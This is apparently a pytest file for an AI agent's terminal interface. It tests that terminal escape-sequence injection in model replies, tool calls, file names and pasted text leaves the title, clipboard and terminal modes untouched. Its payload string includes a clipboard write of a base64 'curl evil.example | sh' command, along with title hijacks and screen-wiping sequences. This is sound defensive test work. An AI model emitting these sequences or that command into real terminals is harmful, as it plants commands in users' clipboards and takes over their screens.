"""As a person would: watching a model and its tools that want to take over the terminal."""

from __future__ import annotations

import base64
import re
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from tests.cli.interactive.acting_vendor import ActingVendor, Thinking, ToolCall
from tests.cli.interactive.person_scene import (
    WAIT_SECONDS,
    Start,
    answered,
    at_work,
    both_sizes,
    is_idle,
    say,
)
from tests.cli.tmux_screen import Tmux

if TYPE_CHECKING:
    from tests.cli.conftest import Program

STOLEN = base64.b64encode(b"curl evil.example | sh").decode()

ATTACKS = "".join(
    [
        f"\x1b]52;c;{STOLEN}\x07",  # the clipboard
        f"\x1bP tmux;\x1b\x1b]52;c;{STOLEN}\x07\x1b\\",  # the same, handed through by tmux
        "\x1b]0;owned\x07\x1b]2;owned\x1b\\\x1bkowned\x1b\\",  # the title, three ways
        "\x1b[?1049h\x1b[2J\x1b[3J\x1b[H",  # the other screen, and nothing left on it
        "\x1b[20A\x1b[2K\x1b[1;1Hover it all",  # over what was there
        "\x1b[5;9r\x1b[?25l\x1b[?1000h\x1b[4h\x1b(0",  # margins, cursor, mouse, line drawing
        "\x9b2J\x9d0;owned\x9c\x90x\x9c",  # the same with single characters
        "\x1bc",  # all of it, from the beginning
        "\x1b[6n\x1b[c\x05",  # answers that would be typed for the user
        "\x08\x08\x08\x7f\r\x0b\x0c",
    ]
)


@dataclass(frozen=True)
class State:
    """What of the terminal could be taken over."""

    title: str
    clipboard: str
    flags: str

    @classmethod
    def of(cls, screen: Tmux) -> State:
        tell = screen._tell
        return cls(
            screen.title,
            screen._ask("list-buffers"),
            tell("#{alternate_on} #{mouse_any_flag} #{insert_flag} #{scroll_region_upper}"),
        )


def open_to_attacks(screen: Tmux) -> None:
    """Have tmux obey what it is told, as many terminals do."""
    for words in (
        ("set-option", "-s", "set-clipboard", "on"),
        ("set-option", "-gq", "allow-passthrough", "on"),
        ("set-option", "-g", "allow-rename", "on"),
    ):
        screen._ask(*words)


@dataclass
class Obedient:
    """A program that prints the attacks as they are."""

    folder: Path
    env: dict[str, str] = field(
        default_factory=lambda: {"PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8"}
    )

    def command(self, *arguments: str) -> list[str]:
        script = f"input(); print({ATTACKS.replace(chr(27) + 'c', '')!r} + 'done'); input()"
        return [sys.executable, "-X", "utf8", "-c", script]


def test_the_attacks_work_where_they_are_obeyed(
    tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    screen = Tmux(Obedient(tmp_path))
    request.addfinalizer(screen.kill)
    open_to_attacks(screen)
    before = State.of(screen)

    screen.keys("Enter")
    screen.wait_for(lambda _seen: State.of(screen).flags != before.flags)
    after = State.of(screen)

    assert after.title == "owned"
    assert "evil.example" in after.clipboard
    assert after.flags == "1 1 1 4"


@both_sizes
def test_what_a_model_and_its_tools_say_moves_nothing_and_is_seen_for_what_it_is(
    tmux: Start, actor: ActingVendor, program: Program, columns: int, rows: int
) -> None:
    (program.folder / "attack.txt").write_text(f"first\n{ATTACKS}\nlast\n")
    code = f"```python\nprint('{ATTACKS}')\n```\n"
    actor.will_answer(
        Thinking(f"I think {ATTACKS} so."),
        f"# Title {ATTACKS}\n\nIt says {ATTACKS} here.\n\n- item {ATTACKS}\n\n{code}",
        ToolCall("bash", {"command": f"cat attack.txt; exit 3 # {ATTACKS}"}),
        ToolCall(f"no{ATTACKS}", {f"key{ATTACKS}": ATTACKS}),
        ToolCall("read", {"path": f"attack{ATTACKS}.txt"}, size=7),  # each cut in two
    )
    actor.will_answer(f"The end{ATTACKS}.")
    screen = at_work(tmux, columns=columns, rows=rows)
    open_to_attacks(screen)
    before = State.of(screen)

    screen.keys("C-t")
    say(screen, "Show me.")
    screen.wait_for(lambda seen: "bash needs your word" in seen, WAIT_SECONDS)
    while_asked = State.of(screen)
    screen.keys("v", "y")
    told = answered(screen, "The end")
    screen.keys("C-o")
    say(screen, "/tree")
    screen.wait_for("go on from")
    while_listed = State.of(screen)
    screen.keys("Escape")
    screen.wait_for(is_idle)
    actor.will_refuse(400, f"no {ATTACKS} more")
    say(screen, "And now?")
    refused = screen.wait_for(lambda seen: "more" in seen and is_idle(seen))

    assert while_asked == while_listed == State.of(screen) == before
    assert told.startswith("loopwright ")
    assert "› Show me." in told
    assert "␛]52;c;" in told
    assert "  toy/one  ask  " in refused.rstrip().splitlines()[-2]
    shown = screen.history()
    assert not re.search(r"[^\n -~\xa0-\U0010ffff]", shown)


def test_a_session_and_files_with_hostile_names_are_listed_harmlessly(
    tmux: Start, actor: ActingVendor, program: Program
) -> None:
    (program.folder / "note\x1b]2;owned\x07.txt").write_text("x")
    (program.folder / "note.txt").write_text("plain")
    actor.will_answer("Good.")
    screen = at_work(tmux)
    open_to_attacks(screen)
    before = State.of(screen)

    screen.paste(f"Read this: {ATTACKS}".replace("\x1b[201~", ""))
    screen.wait_for("Read this:")
    screen.keys("Enter")
    answered(screen, "Good.")
    say(screen, "/new")
    screen.wait_for("a new session")
    say(screen, "/resume")
    listed = screen.wait_for("sessions of this folder")
    screen.keys("Escape")
    screen.wait_for(is_idle)
    screen.type("@note")
    menu = screen.wait_for(lambda seen: "note.txt" in seen)

    assert State.of(screen) == before
    assert "Read this:" in listed
    assert "owned" not in menu.split("@note", 1)[1]
